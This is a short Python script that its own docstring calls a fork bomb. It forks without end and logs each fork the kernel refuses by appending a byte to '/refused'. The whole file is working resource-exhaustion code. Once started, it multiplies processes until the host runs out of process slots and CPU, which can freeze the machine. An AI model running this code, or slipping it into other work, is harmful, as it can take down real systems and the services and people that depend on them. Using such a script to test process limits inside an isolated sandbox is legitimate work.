"""A fork bomb: every process forks as fast as it can. Each fork that the kernel refuses adds one byte to a file."""

import os
import time


def explode() -> None:
    """Fork for ever."""
    refused = os.open("/refused", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    while True:
        try:
            os.fork()
        except BlockingIOError:
            os.write(refused, b"x")
            time.sleep(0.1)
        time.sleep(0.02)


if __name__ == "__main__":
    explode()
